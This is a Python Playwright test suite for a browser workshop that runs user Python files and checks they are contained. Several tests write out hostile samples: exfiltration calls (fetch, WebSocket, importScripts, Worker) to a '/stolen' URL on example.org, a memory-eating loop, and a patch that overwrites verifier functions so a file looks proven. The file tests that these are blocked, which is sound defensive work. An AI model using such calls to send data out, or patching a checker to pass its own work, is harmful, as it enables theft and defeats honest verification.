"""The workshop in a real browser: a file is proven or refuted, and a hostile one hurts nothing but its own worker."""

from __future__ import annotations

import json
import zlib
from base64 import urlsafe_b64encode
from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from planted_mistakes import PLANTED, SOURCES
from playwright.sync_api import Browser, Page, expect

from specviz.texts import workshop as texts
from tools.browser import PATIENCE, served

pytestmark = pytest.mark.slow
WORDS = texts.WORDS
NAIVE = SOURCES["naive"]


@pytest.fixture(scope="module")
def address() -> Iterator[str]:
    with served("--no-models") as found:
        yield f"{found}/lab"


def see_editor(page: Page) -> None:
    """Wait until the file is there."""
    expect(page.get_by_role("textbox", name=WORDS["file"])).not_to_have_value("")


@pytest.fixture(scope="module")
def page(browser: Browser, address: str) -> Iterator[Page]:
    """One page for all tests: starting Python takes seconds."""
    with visited(browser, f"{address}#write") as found:
        yield found


@contextmanager
def visited(browser: Browser, address: str) -> Iterator[Page]:
    """The workshop in a page of its own, which must make no request to anywhere else."""
    context = browser.new_context(viewport={"width": 1280, "height": 720})
    context.set_default_timeout(PATIENCE)
    page, home = context.new_page(), address.partition("/lab")[0]
    wrong: list[str] = []
    page.on("pageerror", lambda error: wrong.append(str(error)))
    context.on("request", lambda one: wrong.append(one.url) if not one.url.startswith((home, "blob:", "data:")) else None)
    page.goto(address)
    see_editor(page)
    yield page
    assert wrong == []
    context.close()


def write(page: Page, source: str) -> None:
    """Another file in the editor."""
    page.get_by_role("textbox", name=WORDS["file"]).fill(source)


def run(page: Page, source: str) -> str:
    """What is said of a file in the end."""
    write(page, source)
    page.get_by_role("button", name=WORDS["run"], exact=True).click()
    expect(page.get_by_role("button", name=WORDS["run"], exact=True)).to_be_visible(timeout=PATIENCE)
    return page.locator(".sv-workshop-result").inner_text()


def do(body: str) -> str:
    """A file that does this before it is naive match, and tells what `told` has become."""
    lines = "\n".join(f"    {line}" for line in body.splitlines())
    rest = NAIVE.partition("from __future__ import annotations")[2]
    tell = "attack()\nif told:\n    raise ValueError(' '.join(map(str, told)))\n"
    return f"told = []\n\n\ndef attack():\n{lines}\n\n\n{tell}{rest}"


def test_our_file_is_proven_and_a_mistake_in_it_refuted(page: Page) -> None:
    """A verdict that the page does not show, or a counterexample without its run."""
    assert texts.PROVEN in run(page, SOURCES["topdown"])
    expect(page.locator(".sv-workshop-view .sv-node").first).to_be_visible()
    planted = next(one for one in PLANTED if one.name == "extra token from p")
    assert texts.REFUTED in run(page, planted.source)
    expect(page.get_by_role("heading", name=WORDS["view"])).to_be_visible()
    expect(page.locator(".sv-workshop-view .sv-node").first).to_be_visible()


def test_a_mistake_is_marked_at_its_line(page: Page) -> None:
    """A sentence about a line that nobody finds."""
    said = run(page, NAIVE.replace("    node = 0\n", "    node = zero\n"))
    assert "zero" in said
    line = next(n for n, text in enumerate(NAIVE.splitlines(), start=1) if text == "    node = 0")
    expect(page.locator(".sv-editor-marked")).to_have_text(str(line))


def test_a_loop_without_an_end_is_stopped(page: Page) -> None:
    """A page that hangs, or a workshop that is dead from then on."""
    assert texts.WORDS["endless"].format(seconds=10) in run(page, do("while True:\n    pass"))
    assert texts.PROVEN in run(page, NAIVE)


def test_memory_is_limited(page: Page) -> None:
    """A file that takes all memory of the device, and the page with it."""
    said = run(page, do("eaten = []\nwhile True:\n    eaten.append(bytearray(10_000_000))"))
    assert texts.MEMORY in said or texts.WORDS["endless"].format(seconds=10) in said, (
        "on a slow machine it comes to that first"
    )
    assert texts.PROVEN in run(page, NAIVE)


REACHES = (
    *("js.fetch('{there}')", "js.XMLHttpRequest.new()", "js.WebSocket.new('{there}')", "js.EventSource.new('{there}')"),
    *(
        "js.importScripts('{there}')",
        "js.eval(\"import('{there}')\")",
        "js.Worker.new('{there}')",
        "js.indexedDB.open('x')",
    ),
)


def test_nothing_gets_out(page: Page, address: str) -> None:
    """A file that sends what it sees somewhere: to us, or to anybody."""
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    for there in (f"{address.removesuffix('/lab')}/stolen", "https://example.org/stolen"):
        tries = "\n".join(
            f"try:\n    {one.format(there=there)}\n    told.append({number})\nexcept BaseException:\n    pass"
            for number, one in enumerate(REACHES)
        )
        said = run(page, do(f"js = __import__('js')\n{tries}\ntold.append('done')"))
        assert "done" in said
    assert not [url for url in asked if "stolen" in url]
    assert "cannot be imported" in run(page, "import js\n" + NAIVE)


PATCH = """
for module in list(__import__("sys").modules.values()):
    for name in ("drift", "total_variation", "output_law"):
        if hasattr(module, name):
            setattr(module, name, lambda *_: 0)
"""


def test_a_file_cannot_prove_itself(page: Page) -> None:
    """Modules that are changed from within, so that everything looks lossless; and the worker that a later file runs in."""
    wrong = next(one for one in PLANTED if one.name == "token from the draft").source.partition("import annotations")[2]
    source = f"{PATCH}\n\n{wrong}"
    assert texts.REFUTED in run(page, source)
    assert texts.PROVEN in run(page, NAIVE)


def test_a_link_runs_nothing(browser: Browser, address: str) -> None:
    """Code of somebody else that runs because a link was opened."""
    packed = urlsafe_b64encode(zlib.compress(NAIVE.encode())).decode().rstrip("=")
    with visited(browser, f"{address}#write?file={packed}") as page:
        asked: list[str] = []
        page.context.on("request", lambda request: asked.append(request.url))
        expect(page.get_by_role("textbox", name=WORDS["file"])).to_have_value(NAIVE)
        expect(page.get_by_text(WORDS["from_link"])).to_be_visible()
        assert not [url for url in asked if "/here/" in url]
        assert page.locator("iframe").count() == 0
        page.get_by_role("button", name=WORDS["run"], exact=True).click()
        expect(page.get_by_text(texts.PROVEN)).to_be_visible(timeout=PATIENCE)
    with visited(browser, f"{address}#write?file=damaged") as page:
        expect(page.get_by_text(WORDS["bad_link"])).to_be_visible()


def test_the_words_are_there() -> None:
    """A sentence of the page that is not in its message."""
    from specviz.workshop.page import workshop_message

    assert set(json.loads(workshop_message())) == {"starts", "words", "here"}
